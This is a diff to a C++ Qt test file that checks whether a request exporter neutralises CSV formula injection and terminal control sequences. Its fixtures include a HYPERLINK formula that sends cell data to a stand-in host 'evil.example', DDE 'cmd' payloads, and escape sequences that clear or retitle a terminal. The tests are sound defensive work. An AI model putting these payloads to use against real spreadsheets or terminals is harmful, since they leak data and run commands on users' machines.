@@ -3,6 +3,7 @@
 #include "curlcommand.h"
 #include "requestexport.h"
 #include "sqltestsupport.h"
+#include "terminaltext.h"
 #include "testsupport.h"
 
 #include <QBuffer>
@@ -346,6 +347,10 @@ private slots:
     void harValidatesAgainstSchema();
     void harEntryContent();
     void csvRoundTrips();
+    void csvNeutralisesFormulas_data();
+    void csvNeutralisesFormulas();
+    void terminalTextNeutralises_data();
+    void terminalTextNeutralises();
     void jsonLinesHaveEveryField();
     void pagesProgressAndCancel_data();
     void pagesProgressAndCancel();
@@ -669,6 +674,103 @@ void tst_Export::csvRoundTrips()
     // The awkward values really were there to quote.
     QVERIFY(csv.contains(",\"{\"\"note\"\":\"\"a, \\\"\"quoted"));
     QVERIFY(csv.contains("detail, with \"\"quotes\"\"\nand a second line"));
+}
+
+void tst_Export::csvNeutralisesFormulas_data()
+{
+    QTest::addColumn<QString>("column");
+    QTest::addColumn<QByteArray>("value");
+    // Each cell a spreadsheet would run, in each field a sender writes.
+    const QList<QByteArray> formulas { "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"_ba,
+        "+1+cmd|' /C calc'!A0"_ba, "-2+3"_ba, "@SUM(1+1)*cmd|' /C calc'!A0"_ba, "\t=1+1"_ba,
+        "\r=1+1"_ba };
+    for (const QByteArray &formula : formulas) {
+        const QByteArray tag = formula.left(4).toHex();
+        QTest::addRow("body %s", tag.constData()) << u"body"_s << formula;
+        QTest::addRow("query %s", tag.constData()) << u"query"_s << formula;
+        QTest::addRow("path %s", tag.constData()) << u"path"_s << formula;
+        QTest::addRow("content type %s", tag.constData()) << u"contentType"_s << formula;
+        QTest::addRow("detail %s", tag.constData()) << u"reasonDetail"_s << formula;
+    }
+    // Methods are HTTP tokens: + and - can start one.
+    QTest::addRow("method +") << u"method"_s << "+SUM"_ba;
+    QTest::addRow("method -") << u"method"_s << "-1"_ba;
+}
+
+void tst_Export::csvNeutralisesFormulas()
+{
+    QFETCH(QString, column);
+    QFETCH(QByteArray, value);
+    LoggedRequest request = baseEntry(1'700'000'000'000'000);
+    request.id = 9;
+    if (column == u"body"_s)
+        request.body = value;
+    else if (column == u"query"_s)
+        request.query = value;
+    else if (column == u"path"_s)
+        request.path = value;
+    else if (column == u"contentType"_s)
+        request.contentType = value;
+    else if (column == u"reasonDetail"_s)
+        request.reasonDetail = QString::fromUtf8(value);
+    else
+        request.method = value;
+    // The header cell is JSON: it starts with [ whatever the sender wrote.
+    request.headers = { { "X-Formula"_ba, value } };
+    const QByteArray row = RequestExport::csvRow(request);
+    const std::optional<QList<QStringList>> records = readCsv(RequestExport::csvHeader() + row);
+    QVERIFY2(records && records->size() == 2, row.constData());
+    const QStringList header = records->first();
+    const QStringList record = records->at(1);
+    const QString cell = record.value(header.indexOf(column));
+    // Text to a spreadsheet, the original after the quote, in a quoted field.
+    QCOMPARE(cell, u"'"_s + QString::fromUtf8(value));
+    QVERIFY2(row.contains(",\"'" + QByteArray(value).replace('"', "\"\"")), row.constData());
+    QVERIFY(record.value(header.indexOf(u"headers"_s)).startsWith(u'['));
+    // No other cell starts as a formula.
+    for (const QString &other : record)
+        QVERIFY2(other.isEmpty() || !QStringLiteral("=+-@\t\r").contains(other.front()),
+            qPrintable(other));
+}
+
+void tst_Export::terminalTextNeutralises_data()
+{
+    QTest::addColumn<QByteArray>("text");
+    QTest::addColumn<QByteArray>("shown");
+    QTest::newRow("plain") << "id,body\r\n1,\"a\tb\"\n"_ba
+                           << "id,body\r\n1,\"a\tb\"\n"_ba;
+    QTest::newRow("clear screen") << "a\x1b[2Jb"_ba
+                                  << "a\\u001b[2Jb"_ba;
+    QTest::newRow("title and bell") << "\x1b]0;owned\x07"_ba
+                                    << "\\u001b]0;owned\\u0007"_ba;
+    QTest::newRow("bare CR rewrites the line") << "ok\rfake"_ba
+                                               << "ok\\u000dfake"_ba;
+    QTest::newRow("CR at the end") << "x\r"_ba
+                                   << "x\\u000d"_ba;
+    QTest::newRow("NUL, ^C, DEL") << "\0\x03\x7f"_ba
+                                  << "\\u0000\\u0003\\u007f"_ba;
+    QTest::newRow("C1 CSI in UTF-8") << "\xc2\x9b"
+                                        "2J"_ba
+                                     << "\\u009b"
+                                        "2J"_ba;
+    QTest::newRow("C1 NEL and OSC") << "\xc2\x85\xc2\x9d"_ba
+                                    << "\\u0085\\u009d"_ba;
+    QTest::newRow("other UTF-8 untouched") << "caf\xc3\xa9 \xc2\xa0 \xe2\x82\xac"_ba
+                                           << "caf\xc3\xa9 \xc2\xa0 \xe2\x82\xac"_ba;
+}
+
+void tst_Export::terminalTextNeutralises()
+{
+    QFETCH(QByteArray, text);
+    QFETCH(QByteArray, shown);
+    QCOMPARE(TerminalText::neutralise(text), shown);
+    QCOMPARE(TerminalText::neutralise(QString::fromUtf8(text)), QString::fromUtf8(shown));
+    // JSON (where no raw control character is) reads back the same.
+    const QString value = QString::fromUtf8(text);
+    const QByteArray json = QJsonDocument(QJsonArray { value }).toJson(QJsonDocument::Compact);
+    const QByteArray safe = TerminalText::neutralise(json);
+    QCOMPARE(QJsonDocument::fromJson(safe).array().first().toString(), value);
+    QVERIFY(std::none_of(safe.begin(), safe.end(), [](char c) { return c == 0x1b || c == 0; }));
 }
 
 void tst_Export::jsonLinesHaveEveryField()
